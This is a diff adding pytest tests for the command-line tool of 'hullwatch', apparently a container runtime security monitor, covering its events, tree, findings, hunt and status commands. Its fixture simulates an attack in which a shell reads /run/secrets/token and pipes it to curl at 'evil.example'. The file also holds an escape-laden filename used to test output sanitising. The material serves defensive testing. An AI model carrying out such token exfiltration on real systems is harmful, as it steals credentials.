@@ -1,0 +1,347 @@
+"""The commands over a small store: what they print, and with which code they end."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+import threading
+import time
+from pathlib import Path
+
+import pytest
+
+from hullwatch.cli import COMMANDS, main
+from hullwatch.cli.errors import ExitCode
+from hullwatch.control import Control
+from hullwatch.sensor.wire import StrKind
+from hullwatch.store.state import CountRow
+from support.enriched import CONTAINER, Builder
+from support.stores import Clock, finding, opens, writer
+
+ADDRESS = b"\x02\0\xbb\x01\x08\x08\x08\x08"
+NASTY = b"/tmp/a\n\x1b[2J\xe2\x80\xae\xff"
+
+
+def attack(b: Builder):
+    """An agent starts a shell that reads a token and sends it out."""
+    addr = int(StrKind.ADDR)
+    server = b.process(99, name="python3", argv=("python3", "server.py"))
+    shell = b.process(100, server, name="sh", argv=("sh", "-c", "cat \x1b[31m | curl"))
+    curl = b.process(101, shell, name="curl", argv=("curl", "http://evil"), marks=4)
+    b.event("task", server, "/usr/bin/python3").event("exec", shell, "/bin/sh")
+    for number in range(5):
+        quiet = b.process(200 + number, shell, name="true", argv=("true",))
+        b.event("exec", quiet, "/bin/true").event("exit", quiet)
+    for number in range(30):
+        b.event("open", server, f"/usr/lib/python3/x{number}.py")
+    b.event("open", shell, "/run/secrets/token").event("open", shell, NASTY, flags=0o101)
+    b.event("exec", curl, "/usr/bin/curl", num2=5)
+    b.event("connect", curl, ADDRESS, kind=addr, dest="evil.example", ret=-115)
+    b.event("flow", curl, ADDRESS, kind=addr, num=5000, num2=100)
+    b.event("ptrace", shell).event("exit", shell, flags=9)
+    b.event("open", b.process(7, workload=0, cgroup=1, name="sshd"), "/etc/ssh/sshd_config")
+    return b.build(), shell
+
+
+@pytest.fixture
+def store(tmp_path, monkeypatch):
+    monkeypatch.setenv("HULLWATCH_STORE", str(tmp_path))
+    b = Builder()
+    w = writer(tmp_path)
+    w.put_workloads([b.workloads.workload(0), b.workloads.workload(1)])
+    enriched, shell = attack(b)
+    w.write(enriched)
+    w.add_counts([CountRow(77, "open", "/etc/ld.so.cache", 900)])
+    w.add_findings([finding("f1abc", count=3, proc=shell.key, output="bad \x1b[31m")])
+    w.add_findings([finding("f2", priority="Notice", rule="Small", container_full_id="d" * 64)])
+    w.flush()
+    yield tmp_path
+    w.close()
+
+
+@pytest.fixture
+def run(capsys):
+    def run_(*argv: str, code: int = 0) -> str:
+        capsys.readouterr()
+        ended = main(list(argv))
+        run_.both = capsys.readouterr()
+        assert ended == code, run_.both
+        assert "Traceback" not in run_.both.err
+        assert "\x1b" not in run_.both.out + run_.both.err
+        return run_.both.out
+
+    return run_
+
+
+def lines(out: str) -> list[dict]:
+    return [json.loads(line) for line in out.splitlines()]
+
+
+# --- events -------------------------------------------------------------------------------
+
+
+def test_events_newest_last_and_escaped(store, run):
+    out = run("events", "--container", "agent").splitlines()
+    assert "killed by signal 9" in out[-1]
+    assert any("/tmp/a\\n\\x1b[2J\\u202e\\xff (write, create)" in line for line in out)
+    assert any("evil.example (8.8.8.8:443) = EINPROGRESS" in line for line in out)
+    assert not any("sshd" in line for line in out)
+
+
+def test_events_filters(store, run):
+    assert {row["class"] for row in lines(run("events", "--class", "exec", "--json"))} == {"exec"}
+    assert {row["pid"] for row in lines(run("events", "--pid", "100", "--json"))} == {100}
+    assert len(lines(run("events", "--container", CONTAINER[:12], "--json"))) == 49
+    assert run("events", "--until", "2020-01-01") == ""
+    assert run("events", "--since", "10m") == ""
+
+
+def test_events_limit_keeps_the_newest_and_says_so(store, run):
+    rows = lines(run("events", "-n", "2", "--json"))
+    assert [row["class"] for row in rows] == ["exit", "open"]
+    assert "older events left out" in run.both.err
+
+
+def test_events_follow_sees_what_comes_and_only_that(tmp_path):
+    w = writer(tmp_path, seal_rows=30)
+    b = Builder()
+    w.put_workloads([b.workloads.workload(1)])
+    w.write(opens(b, 5, "old"))
+    w.flush()
+    follower = subprocess.Popen(
+        [sys.executable, "-m", "hullwatch", "events", "-f", "--json", "--store", str(tmp_path)],
+        env=os.environ | {"PYTHONPATH": str(Path(__file__).resolve().parents[2] / "src")},
+        stdout=subprocess.PIPE,
+        text=True,
+    )
+    assert follower.stdout
+    got: list[dict] = []
+    reader = threading.Thread(
+        target=lambda: [got.append(json.loads(line)) for line in follower.stdout], daemon=True
+    )
+    reader.start()
+    deadline = time.monotonic() + 60
+    sent = 0
+    try:
+        # From the first one it shows on, none is missing, over several tails.
+        while len(got) < 100:
+            assert time.monotonic() < deadline
+            w.write(opens(b, 10, f"new{sent:04}-"))
+            w.flush()
+            sent += 10
+            time.sleep(0.05)
+    finally:
+        follower.kill()
+        w.close()
+    names = [row["object"] for row in got[:100]]
+    assert not any("old" in name for name in names)
+    start = int(names[0].removeprefix("/data/new")[:4])
+    want = [f"/data/new{n // 10 * 10:04}-{n % 10}" for n in range(start, start + 100)]
+    assert names == want
+    assert got[0]["container"] == "agent"
+
+
+# --- tree ---------------------------------------------------------------------------------
+
+
+def test_tree_draws_the_story(store, run):
+    out = run("tree", "agent")
+    assert "python3[99]  python3 server.py" in out
+    assert "files    /usr/lib/python3/ 30 files (30 read)" in out
+    assert "secret   open /run/secrets/token" in out
+    assert "connect  evil.example (8.8.8.8:443), 4.9 KiB out, 100 B in" in out
+    assert "true[200]  true  x5" in out
+    assert "FINDING  Critical: Read of a secret  x3  (f1abc)" in out
+    assert "program was written in the container" in out
+    assert "900 x open /etc/ld.so.cache" in out
+    assert "signal 9" in out
+    shell = next(line for line in out.splitlines() if "sh[100]" in line)
+    curl = next(line for line in out.splitlines() if "curl[101]" in line)
+    assert curl.index("curl[") > shell.index("sh[")
+
+
+def test_tree_as_json(store, run):
+    (story,) = lines(run("tree", "agent", "--json"))
+    server, shell, *others = story["processes"]
+    assert (server["above"], shell["above"]) == (None, server["proc"])
+    assert [(one["name"], one["above"]) for one in others] == [
+        ("true", shell["proc"]),
+        ("curl", shell["proc"]),
+    ]
+    assert shell["findings"][0]["id"] == "f1abc"
+    assert story["workload"]["image"] == "example/agent:1"
+
+
+def test_tree_of_a_deep_chain(tmp_path, run):
+    b = Builder()
+    w = writer(tmp_path)
+    w.put_workloads([b.workloads.workload(1)])
+    process = None
+    for pid in range(1, 2000):
+        process = b.process(pid, process, name=f"p{pid}")
+        b.event("exec", process, "/bin/x")
+    w.write(b.build())
+    w.close()
+    for more in ([], ["--json"]):
+        assert "p1999" in run("tree", "agent", "--store", str(tmp_path), *more)
+
+
+def test_tree_without_anything(store, run):
+    run("tree", "nothing", code=ExitCode.STORE)
+    assert "'nothing': not known here; known: agent" in run.both.err
+    run("tree", "agent", "--since", "1s", code=0)  # counted events and findings are still told
+
+
+# --- findings -----------------------------------------------------------------------------
+
+
+def test_findings(store, run):
+    out = run("findings")
+    assert "Read of a secret x3: bad \\x1b[31m  [f1abc]" in out
+    assert len(out.splitlines()) == 2
+    assert len(lines(run("findings", "--json", "--min-severity", "warning"))) == 1
+    assert [row["id"] for row in lines(run("findings", "--json", "--container", "agent"))] == [
+        "f1abc"
+    ]
+    run("findings", "--min-severity", "terrible", code=ExitCode.USAGE)
+
+
+def test_a_finding_explains_itself(store, run):
+    out = run("findings", "show", "f1")
+    assert "cat[100]  cat x  <- did it" in out
+    assert "3 times" not in out or "to" in out
+    assert "T1552" in out
+    assert f"hullwatch tree {CONTAINER[:12]}" in out
+    assert "hullwatch rules explain 'Read of a secret'" in out
+    run("findings", "show", "f", code=ExitCode.NO)
+    assert "several begin so" in run.both.err
+    run("findings", "show", "nope", code=ExitCode.NO)
+    run("findings", "show", code=ExitCode.USAGE)
+
+
+@pytest.mark.parametrize("agent", [True, False], ids=["from the agent", "from the store"])
+def test_findings_follow(tmp_path, agent):
+    clock = Clock()
+    w = writer(tmp_path, clock)
+    w.add_findings([finding("old")])
+    control = Control(tmp_path / "control.sock", dict) if agent else None
+    follower = subprocess.Popen(
+        [sys.executable, "-m", "hullwatch", "findings", "-f", "--json", "--store", str(tmp_path)],
+        env=os.environ | {"PYTHONPATH": str(Path(__file__).resolve().parents[2] / "src")},
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+    )
+    assert follower.stdout
+    assert follower.stderr
+    if control:
+        deadline = time.monotonic() + 60
+        while not control.wants("findings"):
+            assert time.monotonic() < deadline
+            time.sleep(0.01)
+    else:
+        assert "watching the store" in follower.stderr.readline()
+    w.add_findings([finding("new")])
+    if control:
+        control.publish("findings", json.dumps(finding("new")).encode())
+    try:
+        assert json.loads(follower.stdout.readline())["id"] == "new"
+    finally:
+        follower.kill()
+        if control:
+            control.close()
+        w.close()
+
+
+# --- hunt, status, the rest -----------------------------------------------------------------
+
+
+def test_hunt_formats(store, run):
+    sql = "SELECT class, count(*) n FROM events WHERE pid = 101 GROUP BY ALL ORDER BY class"
+    assert run("hunt", sql).splitlines()[0].split() == ["class", "n"]
+    assert lines(run("hunt", sql, "--json"))[0] == {"class": "connect", "n": 1}
+    assert run("hunt", sql, "--csv").splitlines()[:2] == ["class,n", "connect,1"]
+    assert "'=1+1" in run("hunt", "SELECT '=1+1' x", "--csv")
+    run("hunt", "SELECT * FROM events", "-n", "3")
+    assert "more rows left out: the first 3" in run.both.err
+    assert "dest_name" in run("hunt", "--schema")
+
+
+def test_hunt_errors(store, run):
+    run("hunt", "SELEC", code=ExitCode.QUERY)
+    assert run.both.err.count("\n") == 1
+    run("hunt", code=ExitCode.USAGE)
+
+
+def test_status_without_an_agent(store, run):
+    out = run("status", code=ExitCode.AGENT)
+    assert "no agent is running here" in out
+    assert "50 events" in out
+    assert "losses    none" in out
+
+
+def test_status_with_an_agent(store, run):
+    control = Control(store / "control.sock", lambda: {"tier": "lsm", "rss_bytes": 90 << 20})
+    out = run("status")
+    assert "90.0 MiB" in out
+    (found,) = lines(run("status", "--json"))
+    assert found["agent"]["tier"] == "lsm"
+    assert found["store"]["findings"] == 2
+    assert found["writer_pid"] == os.getpid()
+    control.close()
+
+
+def test_errors_are_one_line_with_a_mend(tmp_path, run):
+    for command in (["events"], ["findings"], ["hunt", "SELECT 1"], ["tree", "x"], ["status"]):
+        run(*command, "--store", str(tmp_path / "none"), code=ExitCode.STORE)
+        assert run.both.err.count("\n") == 1
+        assert "no store here; start `hullwatch up`" in run.both.err
+
+
+def test_usage_errors(store, run):
+    run("events", "--class", "nope", code=ExitCode.USAGE)
+    run("events", "--since", "yesterday-ish", code=ExitCode.USAGE)
+    run("nope", code=ExitCode.USAGE)
+
+
+def test_help_of_every_command(run):
+    import importlib.util
+
+    for command, module in COMMANDS.items():
+        if importlib.util.find_spec(module):
+            assert "Usage:" in run(command, "--help")
+
+
+def test_a_closed_pipe_is_no_error(store):
+    shell = subprocess.run(
+        ["sh", "-c", f"{sys.executable} -m hullwatch events -n 50 | head -1"],
+        env=os.environ
+        | {
+            "PYTHONPATH": str(Path(__file__).resolve().parents[2] / "src"),
+            "HULLWATCH_STORE": str(store),
+        },
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert shell.stdout.count("\n") == 1
+    assert "Traceback" not in shell.stderr
+    assert "Broken" not in shell.stderr
+
+
+def test_completion_for_each_shell():
+    for shell in ("bash", "zsh", "fish"):
+        shown = subprocess.run(
+            [sys.executable, "-m", "hullwatch", "--show-completion", shell],
+            env=os.environ
+            | {
+                "PYTHONPATH": str(Path(__file__).resolve().parents[2] / "src"),
+                "_TYPER_COMPLETE_TEST_DISABLE_SHELL_DETECTION": "1",
+            },
+            capture_output=True,
+            text=True,
+            check=False,
+        )
+        assert "hullwatch" in shown.stdout, shown.stderr
